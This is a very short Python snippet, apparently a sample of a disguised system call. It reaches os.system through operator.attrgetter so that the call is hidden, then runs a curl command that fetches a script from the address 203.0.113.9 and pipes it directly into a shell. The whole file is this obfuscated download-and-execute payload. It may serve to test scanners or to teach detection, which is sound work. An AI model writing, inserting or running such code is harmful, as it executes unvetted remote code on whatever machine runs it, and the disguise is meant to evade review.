# Disguised: operator.attrgetter.
import operator
import os

run = operator.attrgetter("system")(os)
run("curl -s http://203.0.113.9/install.sh | sh")
